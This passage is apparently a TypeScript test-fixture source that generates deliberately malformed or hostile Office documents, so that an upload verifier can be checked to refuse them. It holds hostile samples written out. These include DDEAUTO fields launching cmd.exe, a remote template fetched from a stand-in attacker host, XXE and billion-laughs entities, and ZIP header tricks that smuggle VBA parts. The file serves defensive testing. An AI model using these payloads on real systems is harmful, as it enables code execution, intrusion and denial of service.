import { constants, deflateRawSync } from 'node:zlib';
import { concatBytes as concat } from '../../shared/bytes';
import { crc32 } from '../../shared/ooxml/crc32';
import { CFB_MAGIC } from '../../shared/ooxml/rules';

/**
 * Crafted office documents for the upload verifier (shared/documents.ts): a corpus it must
 * refuse, each a valid minimal package with exactly one thing wrong, and a few honest packages
 * laid out in unusual but legitimate ways that it must accept.
 *
 * zip.js writes only honest archives, so the ZIPs here come from a small builder of our own that
 * can also lie: a local header that disagrees with the central directory, a wrong CRC, wrong
 * sizes, bytes before, between or after the entries, duplicate names. Everything is made here,
 * deterministically (same bytes on every run), with node:zlib and Web APIs only.
 */

export interface HostileSample {
  /** Short kebab-case id. */
  name: string;
  /** What it is uploaded as. */
  filename: string;
  bytes: Uint8Array;
  /** What the verifier's refusal reason must match. */
  reason: RegExp;
}

export interface HonestSample {
  name: string;
  filename: string;
  bytes: Uint8Array;
}

// ---------------------------------------------------------------------------------------------
// Bytes

type Content = string | Uint8Array;

const utf8 = (text: string) => new TextEncoder().encode(text);
const bytesOf = (content: Content) => (typeof content === 'string' ? utf8(content) : content);

function utf16le(text: string): Uint8Array {
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) {
    const unit = text.charCodeAt(i);
    out[2 * i] = unit & 0xff;
    out[2 * i + 1] = unit >>> 8;
  }
  return out;
}

const u16 = (n: number) => {
  const b = new Uint8Array(2);
  new DataView(b.buffer).setUint16(0, n, true);
  return b;
};
const u32 = (n: number) => {
  const b = new Uint8Array(4);
  new DataView(b.buffer).setUint32(0, n >>> 0, true);
  return b;
};

/** Deterministic bytes that look like nothing in particular (xorshift32). */
function noise(size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  let x = 0x2545f491;
  for (let i = 0; i < size; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    bytes[i] = x & 0xff;
  }
  return bytes;
}

/** Stands in for a VBA project, an OLE object or an ActiveX binary: the compound-file magic, then filler. */
function cfb(size: number): Uint8Array {
  const bytes = noise(size);
  bytes.set(CFB_MAGIC);
  return bytes;
}

/** A real 1×1 PNG. */
const PNG = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='), (c) =>
  c.charCodeAt(0),
);

// ---------------------------------------------------------------------------------------------
// A ZIP builder that can lie (APPNOTE.TXT 4.3: local headers, data, central directory, end record)

/** One entry: the truth (name, data) and, optionally, what its headers say instead. */
interface ZipEntry {
  /** The name in the central directory: what a directory-reading tool lists. */
  name: string;
  /** The true uncompressed content. */
  data: Uint8Array;
  /** 8 (deflate, the default) or 0 (stored). */
  method?: 0 | 8;
  /** Compressed bytes to store instead of deflating `data`: a stream that inflates to something else. */
  compressed?: Uint8Array;
  /** Flag bit 3: zeros in the local header, the real CRC and sizes in a descriptor after the data, as streaming writers do. */
  dataDescriptor?: boolean;
  /** Declared by both headers. A wrong CRC is only caught by a reader that checks what it inflates. */
  crc?: number;
  /** Declared by both headers. Smaller than the truth: a reader that sizes its checks by it is bombed. */
  uncompressedSize?: number;
  /**
   * What the local header alone says. Readers that stream local headers (and never see the
   * directory) believe this, the verifier reads the directory: both must be the same file.
   */
  local?: { name?: string; method?: number; crc?: number; compressedSize?: number; uncompressedSize?: number };
  /** Bytes just before this entry's local header that belong to no entry: room to smuggle a payload. */
  before?: Uint8Array;
}

interface ZipLayout {
  /**
   * Bytes before the first local header (a self-extractor stub, the other half of a polyglot).
   * The directory's offsets still point at the true positions, as a self-extracting archive's
   * do, so lenient readers find every entry and see nothing wrong.
   */
  prefix?: Uint8Array;
  /** Bytes between the last entry and the central directory, covered by no entry. */
  beforeDirectory?: Uint8Array;
}

const SIG = { local: 0x04034b50, central: 0x02014b50, descriptor: 0x08074b50, end: 0x06054b50 };
const DOS_TIME = 0;
const DOS_DATE = ((2024 - 1980) << 9) | (1 << 5) | 1; // 2024-01-01: fixed, so the output is reproducible
/** Flag bit 11: the name is UTF-8. Only set when it has to be, as Office does. */
const nameFlag = (name: string) => (/[^\x00-\x7f]/.test(name) ? 0x0800 : 0);

interface LocalRecord {
  bytes: Uint8Array;
  flags: number;
  method: number;
  crc: number;
  compressedSize: number;
  uncompressedSize: number;
}

/** An entry's local header, its data and its data descriptor, plus what the directory will declare. */
function localRecord(entry: ZipEntry): LocalRecord {
  const method = entry.method ?? 8;
  const payload = entry.compressed ?? (method === 8 ? deflateRawSync(entry.data) : entry.data);
  const declared = {
    name: entry.name,
    method,
    crc: entry.crc ?? crc32(entry.data),
    compressedSize: payload.length,
    uncompressedSize: entry.uncompressedSize ?? entry.data.length,
  };
  const streamed = entry.dataDescriptor ? { crc: 0, compressedSize: 0, uncompressedSize: 0 } : {};
  const local = { ...declared, ...streamed, ...entry.local };
  const flags = entry.dataDescriptor ? 0x0008 : 0;
  const name = utf8(local.name);
  const header = [
    u32(SIG.local),
    u16(20),
    u16(flags | nameFlag(local.name)),
    u16(local.method),
    u16(DOS_TIME),
    u16(DOS_DATE),
    u32(local.crc),
    u32(local.compressedSize),
    u32(local.uncompressedSize),
    u16(name.length),
    u16(0),
    name,
  ];
  const descriptor = entry.dataDescriptor
    ? [u32(SIG.descriptor), u32(declared.crc), u32(declared.compressedSize), u32(declared.uncompressedSize)]
    : [];
  return { bytes: concat([...header, payload, ...descriptor]), flags, ...declared };
}

function buildZip(entries: readonly ZipEntry[], layout: ZipLayout = {}): Uint8Array {
  const out: Uint8Array[] = [];
  let at = 0;
  const write = (bytes: Uint8Array) => {
    out.push(bytes);
    at += bytes.length;
  };
  const directory: Uint8Array[] = [];
  if (layout.prefix) write(layout.prefix);
  for (const entry of entries) {
    if (entry.before) write(entry.before);
    const offset = at;
    const record = localRecord(entry);
    write(record.bytes);
    const name = utf8(entry.name);
    directory.push(
      concat([
        u32(SIG.central),
        u16(20),
        u16(20),
        u16(record.flags | nameFlag(entry.name)),
        u16(record.method),
        u16(DOS_TIME),
        u16(DOS_DATE),
        u32(record.crc),
        u32(record.compressedSize),
        u32(record.uncompressedSize),
        u16(name.length),
        u16(0),
        u16(0),
        u16(0),
        u16(0),
        u32(0), // extra and comment lengths, disk, attributes
        u32(offset),
        name,
      ]),
    );
  }
  if (layout.beforeDirectory) write(layout.beforeDirectory);
  const directoryOffset = at;
  const directoryBytes = concat(directory);
  write(directoryBytes);
  write(
    concat([
      u32(SIG.end),
      u16(0),
      u16(0),
      u16(entries.length),
      u16(entries.length),
      u32(directoryBytes.length),
      u32(directoryOffset),
      u16(0),
    ]),
  );
  return concat(out);
}

/** The entries with the one named changed: how each hostile sample departs from its honest base. */
const change = (entries: ZipEntry[], name: string, edit: (entry: ZipEntry) => Partial<ZipEntry>): ZipEntry[] => {
  if (!entries.some((e) => e.name === name)) throw new Error(`no entry ${name}`);
  return entries.map((e) => (e.name === name ? { ...e, ...edit(e) } : e));
};

// ---------------------------------------------------------------------------------------------
// Minimal OOXML packages (ECMA-376): [Content_Types].xml, _rels/.rels, the main part and what it points to

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const NS = {
  types: 'http://schemas.openxmlformats.org/package/2006/content-types',
  packageRels: 'http://schemas.openxmlformats.org/package/2006/relationships',
  r: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
  w: 'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
  wp: 'http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing',
  a: 'http://schemas.openxmlformats.org/drawingml/2006/main',
  pic: 'http://schemas.openxmlformats.org/drawingml/2006/picture',
  c: 'http://schemas.openxmlformats.org/drawingml/2006/chart',
  x: 'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
  xm: 'http://schemas.microsoft.com/office/excel/2006/main',
  p: 'http://schemas.openxmlformats.org/presentationml/2006/main',
  o: 'urn:schemas-microsoft-com:office:office',
  ax: 'http://schemas.microsoft.com/office/2006/activeX',
};
/** Relationship types: the standard ones, and Microsoft's (VBA, macro sheets, ActiveX binaries). */
const REL = (name: string) => `${NS.r}/${name}`;
const MS_REL = (name: string) => `http://schemas.microsoft.com/office/2006/relationships/${name}`;

const CT = {
  rels: 'application/vnd.openxmlformats-package.relationships+xml',
  xml: 'application/xml',
  docxMain: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  docmMain: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  xlsxMain: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
  pptxMain: 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
  settings: 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml',
  webSettings: 'application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml',
  chart: 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
  worksheet: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
  externalLink: 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
  slide: 'application/vnd.openxmlformats-officedocument.presentationml.slide+xml',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  oleObject: 'application/vnd.openxmlformats-officedocument.oleObject',
  activeX: 'application/vnd.ms-office.activeX+xml',
  activeXBinary: 'application/vnd.ms-office.activeX',
  vbaProject: 'application/vnd.ms-office.vbaProject',
  octet: 'application/octet-stream',
  png: 'image/png',
};

type Pair = readonly [string, string];
type Part = readonly [name: string, content: Content];
interface Rel {
  id: string;
  type: string;
  target: string;
  external?: boolean;
}

const contentTypes = (defaults: readonly Pair[], overrides: readonly Pair[]) =>
  `${XML}<Types xmlns="${NS.types}">` +
  `<Default Extension="rels" ContentType="${CT.rels}"/><Default Extension="xml" ContentType="${CT.xml}"/>` +
  defaults.map(([ext, type]) => `<Default Extension="${ext}" ContentType="${type}"/>`).join('') +
  overrides.map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`).join('') +
  `</Types>`;

const relationships = (rels: readonly Rel[]) =>
  `${XML}<Relationships xmlns="${NS.packageRels}">` +
  rels
    .map((r) => `<Relationship Id="${r.id}" Type="${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`)
    .join('') +
  `</Relationships>`;

const rootRels = (main: string) => relationships([{ id: 'rId1', type: REL('officeDocument'), target: main }]);
const entries = (parts: readonly Part[]): ZipEntry[] => parts.map(([name, content]) => ({ name, data: bytesOf(content) }));

interface PackageSpec {
  /** Added after the rels and xml Defaults. */
  defaults?: Pair[];
  /** Added after the main part's (and, for xlsx and pptx, the first sheet's or slide's) Override. */
  overrides?: Pair[];
  /** Replaces the list built from defaults and overrides. */
  contentTypes?: Content;
  /** Further parts, after the standard ones. */
  parts?: Part[];
}

const para = (text: string, p = 'w') => `<${p}:p><${p}:r><${p}:t>${text}</${p}:t></${p}:r></${p}:p>`;
const wordDocument = (body: string, p = 'w') =>
  `${XML}<${p}:document xmlns:${p}="${NS.w}" xmlns:r="${NS.r}"><${p}:body>${body}</${p}:body></${p}:document>`;
const DOCX_TYPES = contentTypes([], [['/word/document.xml', CT.docxMain]]);

function docx(spec: PackageSpec & { body?: string; document?: Content; rels?: Rel[] } = {}): ZipEntry[] {
  return entries([
    [
      '[Content_Types].xml',
      spec.contentTypes ?? contentTypes(spec.defaults ?? [], [['/word/document.xml', CT.docxMain], ...(spec.overrides ?? [])]),
    ],
    ['_rels/.rels', rootRels('word/document.xml')],
    ['word/document.xml', spec.document ?? wordDocument(spec.body ?? para('Quarterly report'))],
    ...(spec.rels ? [['word/_rels/document.xml.rels', relationships(spec.rels)] as const] : []),
    ...(spec.parts ?? []),
  ]);
}

const SHEET1 = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>';
/** `after` goes after <sheets>: externalReferences, then definedNames, in schema order. */
const workbook = (sheets: string, after = '') =>
  `${XML}<workbook xmlns="${NS.x}" xmlns:r="${NS.r}"><sheets>${sheets}</sheets>${after}</workbook>`;

function xlsx(spec: PackageSpec & { workbook?: string; rels?: Rel[] } = {}): ZipEntry[] {
  return entries([
    [
      '[Content_Types].xml',
      spec.contentTypes ??
        contentTypes(spec.defaults ?? [], [
          ['/xl/workbook.xml', CT.xlsxMain],
          ['/xl/worksheets/sheet1.xml', CT.worksheet],
          ...(spec.overrides ?? []),
        ]),
    ],
    ['_rels/.rels', rootRels('xl/workbook.xml')],
    ['xl/workbook.xml', spec.workbook ?? workbook(SHEET1)],
    [
      'xl/_rels/workbook.xml.rels',
      relationships([{ id: 'rId1', type: REL('worksheet'), target: 'worksheets/sheet1.xml' }, ...(spec.rels ?? [])]),
    ],
    [
      'xl/worksheets/sheet1.xml',
      `${XML}<worksheet xmlns="${NS.x}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>42</t></is></c></row></sheetData></worksheet>`,
    ],
    ...(spec.parts ?? []),
  ]);
}

/** `shapes` go inside the slide's shape tree, `controls` after it (CT_CommonSlideData order). */
function pptx(spec: PackageSpec & { shapes?: string; controls?: string; slideRels?: Rel[] } = {}): ZipEntry[] {
  const slide =
    `${XML}<p:sld xmlns:p="${NS.p}" xmlns:a="${NS.a}" xmlns:r="${NS.r}"><p:cSld><p:spTree>` +
    `<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>${spec.shapes ?? ''}` +
    `</p:spTree>${spec.controls ?? ''}</p:cSld></p:sld>`;
  return entries([
    [
      '[Content_Types].xml',
      spec.contentTypes ??
        contentTypes(spec.defaults ?? [], [
          ['/ppt/presentation.xml', CT.pptxMain],
          ['/ppt/slides/slide1.xml', CT.slide],
          ...(spec.overrides ?? []),
        ]),
    ],
    ['_rels/.rels', rootRels('ppt/presentation.xml')],
    [
      'ppt/presentation.xml',
      `${XML}<p:presentation xmlns:p="${NS.p}" xmlns:r="${NS.r}"><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>`,
    ],
    ['ppt/_rels/presentation.xml.rels', relationships([{ id: 'rId2', type: REL('slide'), target: 'slides/slide1.xml' }])],
    ['ppt/slides/slide1.xml', slide],
    ...(spec.slideRels ? [['ppt/slides/_rels/slide1.xml.rels', relationships(spec.slideRels)] as const] : []),
    ...(spec.parts ?? []),
  ]);
}

// ---------------------------------------------------------------------------------------------
// Payloads

/** Field codes double their backslashes; this is the text of the classic DDEAUTO attack. */
const DDE_ARGS = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';

/** A complex field: begin, instruction text (in as many runs as given), separate, result, end. */
const complexField = (instructions: string[], p = 'w') =>
  `<${p}:p><${p}:r><${p}:fldChar ${p}:fldCharType="begin"/></${p}:r>` +
  instructions.map((text) => `<${p}:r><${p}:instrText xml:space="preserve">${text}</${p}:instrText></${p}:r>`).join('') +
  `<${p}:r><${p}:fldChar ${p}:fldCharType="separate"/></${p}:r><${p}:r><${p}:t>Loading</${p}:t></${p}:r>` +
  `<${p}:r><${p}:fldChar ${p}:fldCharType="end"/></${p}:r></${p}:p>`;

/** A legacy embedded or linked object in Word (VML), pointing at relationship rId1. */
const wordObject = (type: 'Embed' | 'Link') =>
  `<w:p><w:r><w:object xmlns:o="${NS.o}" w:dxaOrig="1440" w:dyaOrig="1440">` +
  `<o:OLEObject Type="${type}" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1700000000" r:id="rId1"${type === 'Link' ? ' UpdateMode="Always"' : ''}/>` +
  `</w:object></w:r></w:p>`;

/** The MZ header and DOS stub of a Windows executable, 202 bytes: `MZ` and 200 more. */
function peStub(): Uint8Array {
  const bytes = new Uint8Array(202);
  bytes.set(utf8('MZ'));
  bytes.set(u32(0x80), 0x3c); // e_lfanew: where the PE header is
  bytes.set(utf8('This program cannot be run in DOS mode.\r\r\n$'), 0x4e);
  bytes.set(utf8('PE\0\0'), 0x80);
  return bytes;
}

/**
 * A raw deflate stream of `mebibytes` MiB of zeros, built without ever holding them: one MiB
 * compressed alone and ended with a sync flush instead of a final block is a byte-aligned run of
 * non-final blocks whose back-references stay inside it, so copies of it concatenate into one
 * valid stream; an empty final block closes it.
 */
function zerosStream(mebibytes: number): Uint8Array {
  const piece = deflateRawSync(new Uint8Array(1 << 20), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  return concat([...Array.from({ length: mebibytes }, () => piece), deflateRawSync(new Uint8Array(0))]);
}

let overflowStream: Promise<Uint8Array> | undefined;
/** 200 MiB of zeros in about 200 KB, built once per process. */
const inflatesTo200MiB = () => (overflowStream ??= Promise.resolve().then(() => zerosStream(200)));

let zeroEntry: Promise<{ data: Uint8Array; compressed: Uint8Array; crc: number }> | undefined;
/** 8 MiB of zeros, deflated and checksummed once per process. */
const eightMiBOfZeros = () =>
  (zeroEntry ??= Promise.resolve().then(() => {
    const data = new Uint8Array(8 << 20);
    return { data, compressed: deflateRawSync(data, { level: 9 }), crc: crc32(data) };
  }));

/**
 * A raw deflate stream of `data` whose first block holds only its first two bytes, followed by
 * 16 KiB of empty stored blocks: fed to an inflater in pieces of at most 8 KiB, as the verifier
 * does, the first piece inflates to those two bytes alone, whatever the storage's chunking. A
 * check of "the first chunk" for a magic number never sees more than two bytes of it.
 */
function deflateFirstTwoBytesAlone(data: Uint8Array): Uint8Array {
  const stored = (bytes: Uint8Array, final: boolean) =>
    concat([new Uint8Array([final ? 1 : 0]), u16(bytes.length), u16(~bytes.length & 0xffff), bytes]);
  const blocks = [stored(data.subarray(0, 2), false)];
  for (let i = 0; i < 3300; i++) blocks.push(stored(new Uint8Array(0), false));
  for (let at = 2; at < data.length; at += 0xffff) blocks.push(stored(data.subarray(at, at + 0xffff), at + 0xffff >= data.length));
  return concat(blocks);
}

/** A whole archive's offsets moved by `by` bytes, as if it started that far into a file. */
function rebased(zip: Uint8Array, by: number): Uint8Array {
  const out = zip.slice();
  const v = new DataView(out.buffer);
  const end = out.length - 22;
  const count = v.getUint16(end + 10, true);
  let at = v.getUint32(end + 16, true);
  v.setUint32(end + 16, at + by, true);
  for (let i = 0; i < count; i++) {
    v.setUint32(at + 42, v.getUint32(at + 42, true) + by, true);
    at += 46 + v.getUint16(at + 28, true) + v.getUint16(at + 30, true) + v.getUint16(at + 32, true);
  }
  return out;
}

/**
 * `outer` with `hidden`, a second complete archive, in its end record's comment, followed by one
 * more byte. A reader that takes the end record whose comment runs exactly to the end of the file
 * finds `outer`; readers that take the last end-record signature (LibreOffice, Python's zipfile)
 * or accept a comment shorter than the rest of the file (Go's archive/zip) find `hidden`.
 */
function withArchiveInComment(outer: Uint8Array, hidden: Uint8Array): Uint8Array {
  const comment = concat([rebased(hidden, outer.length), utf8('!')]);
  return concat([outer.subarray(0, outer.length - 2), u16(comment.length), comment]);
}

// ---------------------------------------------------------------------------------------------
// The corpus

const REASON = {
  beforeFirstEntry: /before the first ZIP entry|not a ZIP container/,
  duplicate: /two entries named/,
  unsafeName: /unsafe name/,
  localHeader: /local header/,
  outsideEntries: /outside its ZIP entries/,
  overflow: /more than its declared size/,
  crc: /CRC/,
  bomb: /ZIP bomb/,
  doctype: /DOCTYPE/,
  utf8: /UTF-8/,
  macro: /macro/i,
  activeX: /ActiveX/,
  ole: /OLE/,
  external: /external/i,
  /** An external OLE link is both: either refusal is right. */
  oleOrExternal: /OLE|external/i,
  dde: /DDE/,
  notWord: /not a Word document/,
  /** A second end record, or any end-record comment (office suites write none). */
  endRecord: /end record|comment|outside its ZIP entries/,
  malformedRels: /relationships .*malformed|malformed/,
  altChunk: /altChunk|imports? (a|an|other)|DDE/i,
  addIn: /add-in|web extension/i,
  fieldNesting: /fields?/i,
  compressed: /compressed data|outside its ZIP entries/,
};

/** A docx carrying `word/<name>`, a VBA-looking payload declared only as neutral bytes: the name is the defect. */
const docxWithOddName = (name: string) => buildZip([...docx({ defaults: [['bin', CT.octet]] }), { name, data: cfb(1024) }]);

export async function makeHostileCorpus(): Promise<HostileSample[]> {
  const samples: HostileSample[] = [];
  const add = (name: string, ext: 'docx' | 'xlsx' | 'pptx', reason: RegExp, bytes: Uint8Array) =>
    samples.push({ name, filename: `${name}.${ext}`, bytes, reason });

  // --- Macros under other names -----------------------------------------------------------
  // 1. A VBA project found only by following the relationship's type, not by its name or content
  // type. The payload is not even a compound file (a real vbaProject.bin is), so that sniffing
  // its first bytes does not find it either: the relationship's type is the only signal.
  const vbaRel: Rel = { id: 'rId1', type: MS_REL('vbaProject'), target: 'payload.bin' };
  add(
    'vba-by-relationship',
    'docx',
    REASON.macro,
    buildZip(docx({ defaults: [['bin', CT.octet]], rels: [vbaRel], parts: [['word/payload.bin', noise(2048)]] })),
  );
  // 2. The same with the part declared nowhere in the content types.
  add(
    'vba-by-relationship-undeclared',
    'docx',
    REASON.macro,
    buildZip(docx({ rels: [vbaRel], parts: [['word/payload.bin', noise(2048)]] })),
  );

  // --- Names that extractors, Windows or URL decoding turn into something else ---------------
  add('name-backslash', 'docx', REASON.unsafeName, docxWithOddName('word\\vbaProject.bin')); // 3. '\' read as '/'
  add('name-trailing-space', 'docx', REASON.unsafeName, docxWithOddName('word/vbaProject.bin ')); // 4. Windows drops it
  add('name-percent-encoded-dot', 'docx', REASON.unsafeName, docxWithOddName('word/vbaProject%2Ebin')); // 5. decodes to '.'
  add('name-nul', 'docx', REASON.unsafeName, docxWithOddName('word/vbaProject.bin\0.xml')); // 6. C strings end at NUL
  // Further names of the same family (beyond the numbered list).
  add('name-dot-dot', 'docx', REASON.unsafeName, docxWithOddName('word/media/../vbaProject.bin'));
  add('name-leading-slash', 'docx', REASON.unsafeName, docxWithOddName('/word/vbaProject.bin'));
  add('name-control-char', 'docx', REASON.unsafeName, docxWithOddName('word/\x01vbaProject.bin'));
  add('name-trailing-dot', 'docx', REASON.unsafeName, docxWithOddName('word/vbaProject.bin.'));

  // --- Local headers that disagree with the central directory -----------------------------------
  // 7. The directory lists an image; a streaming reader, following local headers, extracts a VBA project.
  add(
    'local-name-mismatch',
    'docx',
    REASON.localHeader,
    buildZip([
      ...docx({ defaults: [['png', CT.png]] }),
      { name: 'word/media/image1.png', data: cfb(1024), local: { name: 'word/vbaProject.bin' } },
    ]),
  );
  // The other fields a local header can disagree on (beyond the numbered list).
  const DOCUMENT = 'word/document.xml';
  add(
    'local-size-mismatch',
    'docx',
    REASON.localHeader,
    buildZip(change(docx(), DOCUMENT, (e) => ({ local: { uncompressedSize: e.data.length * 3 } }))),
  );
  add(
    'local-crc-mismatch',
    'docx',
    REASON.localHeader,
    buildZip(change(docx(), DOCUMENT, (e) => ({ local: { crc: (crc32(e.data) ^ 0x0badf00d) >>> 0 } }))),
  );
  // Stored according to the local header: its reader takes the deflate stream itself for the content.
  add('local-method-mismatch', 'docx', REASON.localHeader, buildZip(change(docx(), DOCUMENT, () => ({ local: { method: 0 } }))));

  // --- [Content_Types].xml that reads one way to a careless parser and another to Office ----------
  // 8. UTF-16LE with a BOM. Inside a comment, an ASCII list: to a byte-level (UTF-8) reader it is
  // the only readable list there is; to a UTF-16 reader its byte pairs are CJK-range characters
  // in a comment (valid XML: two printable ASCII bytes never make '-' or a surrogate).
  {
    const decoy = DOCX_TYPES.length % 2 ? `${DOCX_TYPES} ` : DOCX_TYPES;
    const types = concat([
      new Uint8Array([0xff, 0xfe]),
      utf16le('<?xml version="1.0" encoding="UTF-16" standalone="yes"?>\n<!--'),
      utf8(decoy),
      utf16le(`-->\n${DOCX_TYPES.slice(XML.length)}`),
    ]);
    add('content-types-utf16-decoy', 'docx', REASON.utf8, buildZip(docx({ contentTypes: types })));
  }
  // 9. The VBA part declared through a second prefix for the content-types namespace, one that
  // ASCII-only name matching (\w) does not see; the unprefixed elements are an honest decoy.
  const prefixed = (partName: string, extraDefault = '') =>
    DOCX_TYPES.replace(`<Types xmlns="${NS.types}">`, `<Types xmlns="${NS.types}" xmlns:ü="${NS.types}">`).replace(
      '</Types>',
      `${extraDefault}<ü:Override PartName="${partName}" ContentType="${CT.vbaProject}"/></Types>`,
    );
  add(
    'content-types-non-ascii-prefix',
    'docx',
    REASON.macro,
    buildZip(docx({ contentTypes: prefixed('/word/vbaProject.bin'), parts: [['word/vbaProject.bin', cfb(2048)]] })),
  );
  // The same under a neutral name, so that only the prefixed Override tells (beyond the numbered list).
  add(
    'content-types-non-ascii-prefix-neutral-name',
    'docx',
    REASON.macro,
    buildZip(
      docx({
        contentTypes: prefixed('/word/media/data.bin', `<Default Extension="bin" ContentType="${CT.octet}"/>`),
        parts: [['word/media/data.bin', cfb(2048)]],
      }),
    ),
  );
  // 10. The main part's Override only inside a comment: a regex over the text finds it, XML does not.
  add(
    'main-override-in-comment',
    'docx',
    REASON.notWord,
    buildZip(
      docx({
        contentTypes: contentTypes([], []).replace(
          '</Types>',
          `<!--<Override PartName="/word/document.xml" ContentType="${CT.docxMain}"/>--></Types>`,
        ),
      }),
    ),
  );
  // 11. XXE: an external entity a resolving parser fetches from a local address.
  add(
    'doctype-xxe',
    'docx',
    REASON.doctype,
    buildZip(
      docx({
        contentTypes: DOCX_TYPES.replace(XML, `${XML}<!DOCTYPE Types [<!ENTITY x SYSTEM "http://127.0.0.1:9/">]>\n`).replace(
          '</Types>',
          '&x;</Types>',
        ),
      }),
    ),
  );
  // 12. Billion laughs: ten entities of ten references each, 10^9 "lol"s once expanded.
  {
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    add(
      'doctype-billion-laughs',
      'docx',
      REASON.doctype,
      buildZip(
        docx({
          contentTypes: DOCX_TYPES.replace(XML, `${XML}<!DOCTYPE Types [<!ENTITY lol0 "lol">${lols}]>\n`).replace(
            '</Types>',
            '&lol9;</Types>',
          ),
        }),
      ),
    );
  }
  // 13. Two lists; readers keeping the last one see a macro-enabled document.
  const MACRO_TYPES = contentTypes([], [['/word/document.xml', CT.docmMain]]);
  add('two-content-types', 'docx', REASON.duplicate, buildZip([...docx(), { name: '[Content_Types].xml', data: utf8(MACRO_TYPES) }]));
  // 14. A second list whose name differs only in case: the same file on Windows and macOS.
  {
    const [types, ...rest] = docx();
    if (!types) throw new Error('docx() starts with its content types');
    add(
      'content-types-case-variant',
      'docx',
      REASON.duplicate,
      buildZip([types, { name: '[content_types].xml', data: utf8(MACRO_TYPES) }, ...rest]),
    );
  }
  // 39. A legacy single-byte encoding declared (the bytes themselves are plain ASCII).
  add(
    'content-types-latin1',
    'docx',
    REASON.utf8,
    buildZip(docx({ contentTypes: DOCX_TYPES.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"') })),
  );
  // UTF-16 declared over UTF-8 bytes, and a UTF-16 main part (beyond the numbered list).
  add(
    'content-types-declared-utf16',
    'docx',
    REASON.utf8,
    buildZip(docx({ contentTypes: DOCX_TYPES.replace('encoding="UTF-8"', 'encoding="UTF-16"') })),
  );
  add(
    'document-utf16',
    'docx',
    REASON.utf8,
    buildZip(
      docx({
        document: concat([
          new Uint8Array([0xff, 0xfe]),
          utf16le(wordDocument(para('Quarterly report')).replace('encoding="UTF-8"', 'encoding="UTF-16"')),
        ]),
      }),
    ),
  );

  // --- Things Office fetches or runs -------------------------------------------------------------
  // 15. Remote template injection: Word fetches (and runs the macros of) the attached template.
  add(
    'remote-template',
    'docx',
    REASON.external,
    buildZip(
      docx({
        rels: [{ id: 'rId1', type: REL('settings'), target: 'settings.xml' }],
        overrides: [['/word/settings.xml', CT.settings]],
        parts: [
          ['word/settings.xml', `${XML}<w:settings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:attachedTemplate r:id="rId1"/></w:settings>`],
          [
            'word/_rels/settings.xml.rels',
            relationships([{ id: 'rId1', type: REL('attachedTemplate'), target: 'https://attacker.example/t.dotm', external: true }]),
          ],
        ],
      }),
    ),
  );
  // 16. An embedded OLE object (a compound file: anything from a spreadsheet to a packaged executable).
  add(
    'ole-embedded',
    'docx',
    REASON.ole,
    buildZip(
      docx({
        body: wordObject('Embed'),
        rels: [{ id: 'rId1', type: REL('oleObject'), target: 'embeddings/oleObject1.bin' }],
        defaults: [['bin', CT.oleObject]],
        parts: [['word/embeddings/oleObject1.bin', cfb(4096)]],
      }),
    ),
  );
  // 17. A linked OLE object, refreshed from a path of the attacker's choosing.
  add(
    'ole-external-link',
    'docx',
    REASON.oleOrExternal,
    buildZip(
      docx({ body: wordObject('Link'), rels: [{ id: 'rId1', type: REL('oleObject'), target: 'file:///C:/x.xls', external: true }] }),
    ),
  );
  // 18-21. DDE: a field that asks to start a program.
  add('dde-auto', 'docx', REASON.dde, buildZip(docx({ body: complexField([` DDEAUTO ${DDE_ARGS} `]) })));
  add('dde-auto-split', 'docx', REASON.dde, buildZip(docx({ body: complexField([' DD', `EAUTO ${DDE_ARGS} `]) })));
  add(
    'dde-fld-simple',
    'docx',
    REASON.dde,
    buildZip(
      docx({
        body: `<w:p><w:fldSimple w:instr=" DDE ${DDE_ARGS.replaceAll('"', '&quot;')} "><w:r><w:t>Loading</w:t></w:r></w:fldSimple></w:p>`,
      }),
    ),
  );
  add(
    'dde-auto-other-prefix',
    'docx',
    REASON.dde,
    buildZip(docx({ document: wordDocument(complexField([` DDEAUTO ${DDE_ARGS} `], 'x'), 'x') })),
  );
  // 22. A DOCTYPE in the main part.
  add(
    'doctype-document',
    'docx',
    REASON.doctype,
    buildZip(
      docx({ document: wordDocument(para('&company;')).replace(XML, `${XML}<!DOCTYPE w:document [<!ENTITY company "Contoso">]>\n`) }),
    ),
  );
  // 37. A subdocument loaded from elsewhere.
  add(
    'subdocument-external',
    'docx',
    REASON.external,
    buildZip(
